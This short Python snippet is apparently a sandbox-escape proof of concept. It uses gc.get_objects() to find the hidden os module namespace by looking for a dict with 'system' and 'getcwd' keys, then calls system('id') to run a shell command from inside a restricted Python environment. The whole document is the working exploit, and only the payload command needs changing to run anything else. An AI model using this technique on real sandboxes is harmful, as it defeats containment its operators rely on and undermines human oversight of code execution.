# gc.get_objects() hands out every tracked object, including modules and
# functions the sandbox never exposed.
import gc

for obj in gc.get_objects():
    if isinstance(obj, dict) and "system" in obj and "getcwd" in obj:
        obj["system"]("id")
        break
